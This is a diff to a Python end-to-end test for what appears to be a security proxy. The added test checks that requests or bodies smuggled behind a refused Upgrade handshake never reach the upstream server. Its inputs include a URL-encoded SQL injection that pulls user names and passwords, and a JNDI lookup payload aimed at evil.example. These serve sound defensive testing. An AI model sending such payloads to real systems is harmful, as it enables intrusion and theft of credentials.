@@ -3,6 +3,7 @@
 from e2e.attacks import ATTACKS
 from e2e.case import Case
 from harness import client
+from harness.upstream import NO_UPGRADE
 
 UPGRADE = [
     ("Connection", "Upgrade"),
@@ -28,6 +29,23 @@ class Streams(Case):
         target = "/live?token=%27%20UNION%20SELECT%20name%2C%20pass%20FROM%20users--"
         self.assert_refused(self.send("GET", target, UPGRADE), "sqli")
         self.assertEqual(self.upstream.take(), [])
+
+    def test_nothing_follows_a_handshake_that_the_application_does_not_take(self):
+        """It would be a request of its own there, or the body of this one, that nobody has inspected."""
+        attack = client.request("GET", "/?q=%24%7Bjndi:ldap://evil.example/a%7D")[0]
+        body = b'{"note": "' + ATTACKS["sqli"].encode() + b'"}'
+        for name, method, headers, rest in (
+            ("a second request", "GET", [], attack),
+            ("one behind a length of 0", "POST", [("Content-Length", "0")], attack),
+            ("a body in chunks", "POST", [("Transfer-Encoding", "chunked")], b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body)),
+            ("a body with a length", "POST", [("Content-Length", str(len(body)))], body),
+        ):
+            with self.subTest(name):
+                head = client.request(method, NO_UPGRADE, [*UPGRADE, *headers])[0]
+                self.upstream.take()
+                client.abandon(self.port(), [head + rest], wait_s=0.3)
+                (seen,) = self.upstream.take()
+                self.assertEqual((seen.target, seen.body_bytes), (NO_UPGRADE, 0))
 
     def test_grpc_is_not_held(self):
         message = b"\x00\x00\x00\x00\x05\x0a\x03abc"
